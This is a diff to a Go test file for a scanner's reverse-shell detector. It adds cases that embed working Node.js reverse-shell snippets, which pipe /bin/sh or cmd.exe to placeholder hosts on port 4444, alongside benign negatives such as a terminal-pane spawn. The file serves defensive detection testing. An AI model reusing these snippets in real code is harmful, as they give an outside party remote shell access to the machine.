@@ -86,6 +86,11 @@ func TestSpawn(t *testing.T) {
 func TestReverseShell(t *testing.T) {
 	rt.Check(t, ReverseShell{}, []rt.Case{
 		{"socket_shell", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const c=new net.Socket();c.connect(4444,"203.0.113.5",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c)})`}, finding.SeverityCritical},
+		{"shell_by_platform", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const s=new net.Socket();s.connect(4444,"shell.example.invalid",()=>{
+const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
+s.pipe(sh.stdin);sh.stdout.pipe(s)})`}, finding.SeverityCritical},
+		// a dev server starting the user's shell for a terminal pane by platform, with no socket in sight
+		{"terminal_pane", map[string]string{"index.js": `const {spawn}=require("child_process"); export function open() { return spawn(process.platform === "win32" ? "powershell.exe" : "bash", [], { cwd }) }`}, finding.SeverityNone},
 		{"powershell_one_command", map[string]string{"index.js": `const net=require("net"),cp=require("child_process");const s=net.connect(5173,"localhost");cp.exec('powershell -NoProfile -Command "Get-CimInstance -Query \\"select executablepath from win32_process\\""', ()=>{})`}, finding.SeverityNone},
 		{"server_runs_git", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");net.createServer(s=>s.end("ok"));spawn("git",["pull"])`}, finding.SeverityNone},
 	})
